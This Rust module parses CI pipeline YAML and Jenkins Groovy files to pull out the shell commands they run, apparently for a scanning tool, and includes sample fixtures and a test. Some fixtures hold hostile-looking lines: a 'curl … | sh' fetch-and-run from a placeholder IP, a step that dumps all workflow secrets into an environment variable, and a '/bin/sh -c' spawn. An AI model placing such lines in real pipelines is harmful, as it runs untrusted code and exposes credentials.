//! Commands of build pipelines as they stand in repositories: YAML of the usual services, and Groovy.

use crate::init_jobs::Command;
use crate::{Format, lines};

/// Card of this format.
pub const FORMAT: Format = Format {
    name: "pipeline",
    doc: "Shell commands in the definitions of build pipelines.",
    manual: "GitLab CI/CD YAML reference; GitHub workflow syntax; Drone, Woodpecker, CircleCI, Bitbucket documentation; Jenkins Pipeline syntax",
    samples: &[
        b"build:\n  script:\n    - make all\n    - 'curl -s http://192.0.2.1/a | sh'\n    - |\n      id\n      ls\n  image: x\n",
        b"jobs:\n  a:\n    steps:\n      - uses: x@v1\n      - run: |\n          make\n          make test\n        env:\n          A: ${{ toJSON(secrets) }}\n      - run: make install\n",
        b"before_script: [\"a b\", 'c']\nsteps:\n- name: x\n  commands:\n  - go test\n",
        b"pipeline { stages { stage('b') { steps { sh 'make all'\n sh \"\"\"a\n b /c\"\"\" } } } }\ndef p = [\"/bin/sh\", \"-c\", \"/x y\"].execute()\n",
    ],
    feed: |bytes| {
        drop(yaml(bytes));
        drop(groovy(bytes));
    },
};

/// More commands than this are not taken from one file.
const MOST: usize = 2_000;

/// Whether commands stand behind this name.
fn runs(key: &[u8]) -> bool {
    const KEYS: &[&[u8]] = &[
        b"run",
        b"script",
        b"before_script",
        b"after_script",
        b"pre_script",
        b"post_script",
        b"before_install",
        b"install",
        b"after_success",
        b"before_deploy",
        b"after_deploy",
        b"commands",
        b"command",
        b"after-script",
        b"bash",
        b"entrypoint",
    ];
    KEYS.contains(&key)
}

/// The commands behind `script:`, `run:` and the like, in line, as a block, or as a list.
pub fn yaml(bytes: &[u8]) -> Vec<Command> {
    let mut all: Vec<Command> = Vec::new();
    // The list or block that is read: its name's indentation, and the same of a block scalar.
    let (mut list, mut block) = (None::<usize>, None::<usize>);
    for (line, text) in lines::numbered(bytes) {
        let trimmed = text.trim_ascii();
        let indent = text.len() - text.trim_ascii_start().len();
        if all.len() >= MOST {
            break;
        }
        if trimmed.is_empty() {
            continue;
        }
        if let Some(of) = block {
            if indent > of {
                if let Some(last) = all.last_mut() {
                    let mut whole = last.command.as_bytes().to_vec();
                    whole.extend_from_slice(trimmed);
                    whole.push(b'\n');
                    if whole.len() < 64 << 10 {
                        last.command = whole.into();
                    }
                }
                continue;
            }
            block = None;
        }
        if trimmed.starts_with(b"#") {
            continue;
        }
        let mut put = |value: &[u8], indent: usize, block: &mut Option<usize>| {
            if matches!(value.first(), Some(b'|' | b'>')) && value.len() <= 3 {
                *block = Some(indent);
                all.push(Command { line, command: Vec::new().into() });
            } else {
                all.extend(flow(value).into_iter().map(|word| Command { line, command: word.into() }));
            }
        };
        if let Some(of) = list {
            match trimmed.strip_prefix(b"-").filter(|_| indent >= of) {
                Some(item) => {
                    let item = item.trim_ascii();
                    // CircleCI: `- run: x` stands in a list as well.
                    let inner = key(item).filter(|(name, _)| runs(name)).map_or(item, |(_, value)| value);
                    put(inner, indent, &mut block);
                    continue;
                }
                None => list = None,
            }
        }
        let item = trimmed.strip_prefix(b"- ").map_or(trimmed, <[u8]>::trim_ascii);
        let at = indent + (trimmed.len() - item.len());
        let Some((_, value)) = key(item).filter(|(name, _)| runs(name)) else { continue };
        if value.is_empty() {
            list = Some(at);
        } else {
            put(value, at, &mut block);
        }
    }
    all.retain(|command| !command.command.is_empty());
    all
}

fn key(text: &[u8]) -> Option<(&[u8], &[u8])> {
    let at = text.iter().position(|b| *b == b':')?;
    let (name, rest) = (text.get(..at)?, text.get(at + 1..)?);
    (rest.is_empty() || rest.starts_with(b" ")).then(|| (name, rest.trim_ascii()))
}

/// A scalar, or the members of `[a, "b"]`.
fn flow(value: &[u8]) -> Vec<Vec<u8>> {
    let unquote = |word: &[u8]| match word.first() {
        Some(quote @ (b'"' | b'\'')) if word.len() > 1 => word
            .get(1..)
            .map(|rest| rest.strip_suffix(&[*quote]).unwrap_or(rest))
            .unwrap_or_default()
            .to_vec(),
        _ => word.to_vec(),
    };
    match value.strip_prefix(b"[").and_then(|rest| rest.strip_suffix(b"]")) {
        Some(inside) => inside
            .split(|b| *b == b',')
            .map(|word| unquote(word.trim_ascii()))
            .filter(|word| !word.is_empty())
            .collect(),
        None => vec![unquote(value)],
    }
}

/// The strings of a Groovy text that starts programs; those of a list one behind the other as well.
pub fn groovy(bytes: &[u8]) -> Vec<Command> {
    let has = |part: &[u8]| bytes.windows(part.len()).any(|window| window == part);
    let starts: [&[u8]; 7] =
        [b"sh ", b"sh(", b".execute(", b"ProcessBuilder", b"getRuntime", b".exec(", b"executeOnShell"];
    if !starts.iter().any(|word| has(word)) {
        return Vec::new();
    }
    let mut all = Vec::new();
    let (mut rest, mut line) = (bytes, 1_u32);
    while let Some((first, behind)) = rest.split_first() {
        match *first {
            b'\n' => line = line.saturating_add(1),
            b'/' if behind.starts_with(b"/") => {
                let end = behind.iter().position(|b| *b == b'\n').unwrap_or(behind.len());
                rest = behind.get(end..).unwrap_or_default();
                continue;
            }
            quote @ (b'"' | b'\'') => {
                let three = [quote; 3];
                let long = rest.starts_with(&three);
                let inside = if long { rest.get(3..).unwrap_or_default() } else { behind };
                let end = if long {
                    inside.windows(3).position(|window| window == three)
                } else {
                    let mut escaped = false;
                    inside.iter().position(|b| {
                        let ends = !escaped && (*b == quote || *b == b'\n');
                        escaped = !escaped && *b == b'\\';
                        ends
                    })
                };
                let end = end.unwrap_or(inside.len());
                let text = inside.get(..end).unwrap_or_default();
                let telling = text.iter().any(|b| matches!(b, b' ' | b'/' | b'|' | b'\n'));
                if text.len() > 3 && telling && all.len() < MOST {
                    let command = text.get(..text.len().min(64 << 10)).unwrap_or_default();
                    all.push(Command { line, command: command.into() });
                }
                let lines = text.iter().filter(|b| **b == b'\n').count();
                line = line.saturating_add(u32::try_from(lines).unwrap_or(u32::MAX));
                rest = inside.get(end + if long { 3 } else { 1 }..).unwrap_or_default();
                continue;
            }
            _ => {}
        }
        rest = behind;
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_taken_from_every_form() {
        let told = |all: Vec<Command>| -> Vec<String> {
            all.into_iter().map(|one| format!("{} {}", one.line, one.command)).collect()
        };
        assert_eq!(
            told(yaml(FORMAT.samples[0])),
            ["3 make all", "4 curl -s http://192.0.2.1/a | sh", "5 id\\nls\\n"]
        );
        assert_eq!(told(yaml(FORMAT.samples[1])), ["5 make\\nmake test\\n", "10 make install"]);
        assert_eq!(told(yaml(FORMAT.samples[2])), ["1 a b", "1 c", "5 go test"]);
        assert_eq!(told(groovy(FORMAT.samples[3])), ["1 make all", "2 a\\n b /c", "4 /bin/sh", "4 /x y"]);
    }
}
